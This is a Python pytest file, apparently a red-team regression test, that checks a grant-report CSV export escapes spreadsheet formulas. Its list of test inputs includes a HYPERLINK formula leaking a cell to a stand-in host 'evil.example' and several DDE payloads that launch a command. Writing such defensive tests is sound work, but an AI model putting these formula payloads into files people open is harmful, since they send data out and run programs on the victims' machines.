"""Red team: a CSV report never carries a spreadsheet formula (issue 15, hole 6).

Before, a grant whose purpose began with ``=`` was written unchanged into `diplo report grants
--format csv`, and a spreadsheet opening the file would evaluate it (OWASP "CSV injection").
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from diplo.projections.render import FORMULA_SIGNS, csv_cell
from tests.conftest import GRANT, ORG, write_jsonl

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",  # a full-width equals sign
]


def grants_csv(diplo: Any, store: str) -> list[dict[str, str]]:
    result = diplo("report", "grants", "--format", "csv", "--store", store)
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


@pytest.mark.parametrize("purpose", FORMULAS)
def test_a_purpose_that_is_a_formula_is_written_as_text(
    diplo: Any, store: str, tmp_path: Path, purpose: str
) -> None:
    lines = write_jsonl(tmp_path / "g.jsonl", ORG, GRANT | {"purpose": purpose})
    assert diplo("import", lines, "--store", store).exit_code == 0
    (row,) = grants_csv(diplo, store)
    assert row["purpose"] == "'" + purpose
    assert row["value"] == "10000000"  # numbers are left as they are


@pytest.mark.parametrize("start", sorted(FORMULA_SIGNS))
def test_every_formula_sign_is_guarded_wherever_it_comes_from(start: str) -> None:
    assert csv_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("number", ["-5", "12.50", "0", "-0.25", "2500", 850, None])
def test_plain_numbers_and_empty_cells_stay_as_they_are(number: object) -> None:
    assert csv_cell(number) == ("" if number is None else str(number))


@given(st.text())
def test_dropping_one_leading_quote_gives_back_the_exact_text(text: str) -> None:
    cell = csv_cell(text)
    assert (cell[1:] if cell.startswith("'") else cell) == text
    unguarded = cell[:1] in FORMULA_SIGNS - {"'"}
    assert not unguarded or re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)  # only a negative number
